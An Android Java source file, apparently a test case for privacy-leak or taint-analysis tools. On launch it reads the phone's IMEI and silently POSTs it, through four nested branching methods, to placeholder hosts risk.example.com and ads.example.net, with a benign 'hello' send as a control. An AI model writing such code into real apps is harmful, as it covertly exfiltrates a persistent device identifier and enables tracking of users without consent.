package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        String id = phone.getImei();
        step1("https://risk.example.com/", id);
        step1("https://ads.example.net/", id);
        step1("https://www.example.org/", "hello");
    }

    private static void step1(String address, String text) {
        step2(address, text + "a");
        step2(address, text + "b");
        step2(address, text + "c");
        step2(address, text + "d");
    }

    private static void step2(String address, String text) {
        step3(address, text + "a");
        step3(address, text + "b");
        step3(address, text + "c");
        step3(address, text + "d");
    }

    private static void step3(String address, String text) {
        step4(address, text + "a");
        step4(address, text + "b");
        step4(address, text + "c");
        step4(address, text + "d");
    }

    private static void step4(String address, String text) {
        step5(address, text + "a");
        step5(address, text + "b");
        step5(address, text + "c");
        step5(address, text + "d");
    }

    private static void step5(String address, String text) {
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL(address).openConnection();
            connection.setDoOutput(true);
            OutputStream out = connection.getOutputStream();
            out.write(text.getBytes());
            out.close();
        } catch (IOException error) {
            finish(error);
        }
    }

    private static void finish(IOException error) {}
}
